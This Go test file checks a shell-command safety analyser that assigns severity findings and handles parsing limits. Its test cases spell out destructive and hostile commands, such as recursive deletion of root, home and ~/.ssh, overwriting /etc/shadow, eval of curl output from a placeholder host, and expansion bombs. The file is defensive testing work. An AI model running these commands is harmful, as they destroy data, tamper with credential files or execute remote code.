package safety

import (
	"reflect"
	"strconv"
	"strings"
	"sync"
	"testing"
	"unicode"
)

func TestFindingsAreComplete(t *testing.T) {
	for _, tc := range analyzeCases() {
		v := Analyze(tc.command, testOpts())
		max := None
		for i, f := range v.Findings {
			if f.Rule == "" || f.Reason == "" || f.Command == "" {
				t.Errorf("%s: finding %+v lacks a rule, reason or command", tc.name, f)
			}
			if r := []rune(f.Reason)[0]; !unicode.IsUpper(r) {
				t.Errorf("%s: reason %q does not start with a capital letter", tc.name, f.Reason)
			}
			if strings.Contains(f.Reason+f.Command+strings.Join(f.Words, " "), unknownVar) {
				t.Errorf("%s: finding shows the internal stand-in: %+v", tc.name, f)
			}
			if i > 0 && f.Severity > v.Findings[i-1].Severity {
				t.Errorf("%s: findings not ordered by severity: %+v", tc.name, v.Findings)
			}
			max = maxSeverity(max, f.Severity)
		}
		if v.Severity != max {
			t.Errorf("%s: verdict %s, highest finding %s", tc.name, v.Severity, max)
		}
	}
}

func maxSeverity(a, b Severity) Severity {
	if b > a {
		return b
	}
	return a
}

func TestFindingDetails(t *testing.T) {
	cases := []struct {
		name, command, rule string
		words               []string
		inCommand           string
	}{
		{"words as written", `rm -rf "$HOME"`, "delete-root", []string{`"$HOME"`}, `rm -rf "$HOME"`},
		{"nested command text", `bash -c 'cd / && rm -rf *'`, "delete-root", []string{"*"}, "rm -rf *"},
		{"wrapper keeps outer text", "sudo -u root rm -rf /", "delete-root", []string{"/"}, "sudo -u root rm -rf /"},
		{"redirect names statement", "echo x > /etc/shadow", "write-auth-file", []string{"/etc/shadow"}, "echo x > /etc/shadow"},
		{"computed shown readably", `eval "$(curl -s https://x.example)"`, "computed-command", []string{"<computed>"}, "<computed>"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			v := Analyze(tc.command, testOpts())
			for _, f := range v.Findings {
				if f.Rule == tc.rule {
					if !reflect.DeepEqual(f.Words, tc.words) || f.Command != tc.inCommand {
						t.Errorf("finding %s: words %q command %q; want %q %q", f.Rule, f.Words, f.Command, tc.words, tc.inCommand)
					}
					return
				}
			}
			t.Errorf("no %s finding in\n%s", tc.rule, describeVerdict(v))
		})
	}
}

func TestUnparseable(t *testing.T) {
	cases := []struct {
		name, command string
		want          Severity
	}{
		{"unterminated quote", `echo "hello`, High},
		{"dangling operator", "ls &&", High},
		{"bad function", "f() {", High},
		// bash runs the complete lines before the one it cannot parse.
		{"complete lines first", "rm -rf /\nif then", Critical},
		{"error on the same line", "rm -rf / ; if then", High},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			v := Analyze(tc.command, testOpts())
			if v.Severity != tc.want || !v.Has("unparseable") {
				t.Errorf("Analyze(%q) = %s, want %s with unparseable\n%s", tc.command, v.Severity, tc.want, describeVerdict(v))
			}
		})
	}
}

func TestLimits(t *testing.T) {
	if v := Analyze(nested(maxDepth-1), testOpts()); v.Severity != Critical || v.Has("too-deeply-nested") {
		t.Errorf("nesting below the limit: %s\n%s", v.Severity, describeVerdict(v))
	}
	if v := Analyze(nested(maxDepth+1), testOpts()); v.Severity < High || !v.Has("too-deeply-nested") {
		t.Errorf("nesting past the limit: %s\n%s", v.Severity, describeVerdict(v))
	}

	// Functions that each call the next twice: 2^30 calls if followed.
	var b strings.Builder
	for i := range 30 {
		b.WriteString("f" + itoa(i) + "() { f" + itoa(i+1) + "; f" + itoa(i+1) + "; }\n")
	}
	b.WriteString("f30() { ls; }\nf0\n")
	v := Analyze(b.String(), testOpts())
	if !v.Has("too-complex") || v.Severity < High {
		t.Errorf("exponential function calls: %s\n%s", v.Severity, describeVerdict(v))
	}

	// Inputs that would blow up if expanded naively.
	for name, cmd := range map[string]string{
		"brace sequence": "echo {1..100000000}",
		"brace product":  "echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}",
		"doubling var":   "x=aaaaaaaa" + strings.Repeat("; x=$x$x", 60) + "; echo $x",
		"many findings":  strings.Repeat("rm -rf /tmp/a$RANDOM; ", 500),
	} {
		t.Run(name, func(t *testing.T) {
			v := Analyze(cmd, testOpts())
			if len(v.Findings) > maxFindings {
				t.Errorf("%d findings, more than the cap %d", len(v.Findings), maxFindings)
			}
		})
	}
}

func itoa(i int) string { return strconv.Itoa(i) }

func TestOptions(t *testing.T) {
	cases := []struct {
		name    string
		opts    Options
		command string
		want    Severity
		rule    string
	}{
		{"cwd defaults to first root", Options{Roots: []string{"/w"}}, "rm -r build", High, "delete-recursive"},
		{"no roots: relative path unknown", Options{}, "rm notes.txt", High, "delete-computed-target"},
		{"no roots: absolute path outside", Options{}, "touch /srv/x/y", High, "write-outside-workspace"},
		{"second root", Options{Roots: []string{"/w", "/v"}}, "rm /v/a.txt", Medium, "delete-file"},
		{"relative roots ignored", Options{Roots: []string{"w"}, Cwd: "/w"}, "rm a.txt", High, "delete-outside-workspace"},
		{"unknown home still home", Options{Roots: []string{"/w"}}, "rm -rf ~", Critical, "delete-root"},
		{"unknown home child", Options{Roots: []string{"/w"}}, "rm -rf $HOME/.ssh", Critical, "delete-root"},
		{"custom temp dir", Options{Roots: []string{"/w"}, TempDirs: []string{"/private/tmp"}}, "echo x > /private/tmp/a", Medium, "write-temp"},
		{"default temp dirs replaced", Options{Roots: []string{"/w"}, TempDirs: []string{"/private/tmp"}}, "echo x > /tmp/sub/a", High, "write-outside-workspace"},
		{"allowed dir", Options{Roots: []string{"/w"}, Allowed: []string{"/data"}}, "cp a /data/b", None, ""},
		{"cwd outside", Options{Roots: []string{"/w"}, Cwd: "/srv"}, "rm -f x", High, "delete-outside-workspace"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			v := Analyze(tc.command, tc.opts)
			if v.Severity != tc.want || tc.rule != "" && !v.Has(tc.rule) {
				t.Errorf("Analyze(%q) = %s, want %s %s\n%s", tc.command, v.Severity, tc.want, tc.rule, describeVerdict(v))
			}
		})
	}
}

// TestConcurrentAndDeterministic runs the whole table from several
// goroutines at once (under -race) and checks every answer matches the
// serial one.
func TestConcurrentAndDeterministic(t *testing.T) {
	cases := analyzeCases()
	want := make([]Verdict, len(cases))
	for i, tc := range cases {
		want[i] = Analyze(tc.command, testOpts())
	}
	var wg sync.WaitGroup
	errs := make(chan string, 8)
	for range 4 {
		wg.Go(func() {
			for i, tc := range cases {
				if got := Analyze(tc.command, testOpts()); !reflect.DeepEqual(got, want[i]) {
					select {
					case errs <- tc.name:
					default:
					}
					return
				}
			}
		})
	}
	wg.Wait()
	close(errs)
	for name := range errs {
		t.Errorf("%s: concurrent result differs from the serial one", name)
	}
}

func TestVerdictHelpers(t *testing.T) {
	v := Analyze("sudo rm -rf /", testOpts())
	if !strings.Contains(v.Reason(), "root directory") {
		t.Errorf("Reason() = %q, want the critical finding's reason", v.Reason())
	}
	if (Verdict{}).Reason() != "" || (Verdict{}).Has("x") {
		t.Error("empty verdict has a reason or a rule")
	}
}
